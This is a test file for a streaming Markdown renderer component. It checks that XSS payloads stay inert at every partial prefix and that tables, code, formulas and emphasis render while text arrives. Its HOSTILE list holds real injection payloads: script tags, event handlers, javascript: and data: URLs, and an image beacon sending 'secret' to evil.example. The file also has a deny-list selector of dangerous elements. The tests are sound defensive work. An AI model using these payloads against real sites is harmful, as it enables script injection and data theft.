import { render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'

import { startWords } from '../words'
import { Markdown } from './markdown'

await startWords()

const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit=1">',
  '[click](javascript:window.hit=1)',
  '[click](JaVaScRiPt:window.hit=1)',
  '[click](data:text/html,<script>window.hit=1</script>)',
  '![pixel](https://evil.example/p.png?q=secret)',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="https://evil.example" onclick="window.hit=1">x</a>',
  '<svg onload="window.hit=1"><style>@import "https://evil.example"</style></svg>',
  '[x]: https://evil.example/x.css\n![x]',
  '<https://evil.example> ![a](//evil.example/b.png)',
  '$\\href{javascript:window.hit=1}{x}$',
]

test.each(HOSTILE)('%s is shown as words, at every cut of the stream', (payload) => {
  const { container, rerender } = render(<Markdown text="" isGrowing />)
  for (let cut = 1; cut <= payload.length; cut += 1) {
    rerender(<Markdown text={payload.slice(0, cut)} isGrowing={cut < payload.length} />)
    expect(container.querySelectorAll('script, img, iframe, svg, style, object, embed, link, form, [onerror], [onclick], [onload]')).toHaveLength(0)
    for (const link of container.querySelectorAll('a')) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/)
      expect(link.rel).toContain('noopener')
    }
  }
})

test('a link says where it leads', () => {
  render(<Markdown text="[your bank](https://evil.example/login)" />)
  expect(screen.getByText('(evil.example)')).toBeTruthy()
})

test('Chinese emphasis next to Chinese punctuation is emphasis', () => {
  const { container } = render(<Markdown text="这是**重点。**请看" />)
  expect(container.querySelector('strong')?.textContent).toBe('重点。')
})

test('tables and lists become tables and lists', () => {
  const { container } = render(<Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two'} />)
  expect(container.querySelectorAll('td')).toHaveLength(2)
  expect(container.querySelectorAll('ol > li')).toHaveLength(2)
})

/** What is on the page after each character of a text that comes, once `from` characters are there. */
function growing(text: string, from: number): HTMLElement[] {
  return Array.from({ length: text.length - from }, (_, index) => {
    const { container } = render(<Markdown text={text.slice(0, from + index)} isGrowing />)
    return container
  })
}

test('of half a link its words are shown, and nothing that one could follow', () => {
  for (const page of growing('See [the manual](https://docs.example/library)', 'See [t'.length)) {
    expect(page.textContent).toMatch(/^See (t[a-z ]*|\[the manual\])$/)
    expect(page.querySelector('a')).toBeNull()
  }
})

test('code is code from its first line on, and its fence is never shown', () => {
  for (const page of growing('```py\nx = `1`\n\ny = 2\n```', '```py\n'.length)) {
    expect(page.querySelectorAll('pre')).toHaveLength(1)
    expect(page.querySelector('figcaption')?.textContent).toBe('py')
    expect(page.textContent).not.toContain('```')
  }
})

test('a table is a table from its first line on', () => {
  for (const page of growing('| word | count |\n|:-----|---:|\n| the | 12 |\n| of', '| w'.length)) {
    expect(page.querySelectorAll('table')).toHaveLength(1)
    expect(page.querySelectorAll('th').length).toBeLessThanOrEqual(2)
    expect(page.textContent).not.toMatch(/[|:]|--/)
  }
})

test('a displayed formula is one from its first line on', () => {
  for (const page of growing('so\n\n$$\nx^2\n\n+ y', 'so\n\n$$\n'.length)) expect(page.textContent).not.toContain('$')
})

test.each(['**bold', '*slant', '~~gone', '`code', '***both'])('%s is already what it will be', (text) => {
  const { container } = render(<Markdown text={`so ${text}`} isGrowing />)
  expect(container.textContent).toBe(`so ${text.replace(/\W/g, '')}`)
  expect(container.querySelector('strong, em, del, code')).not.toBeNull()
})
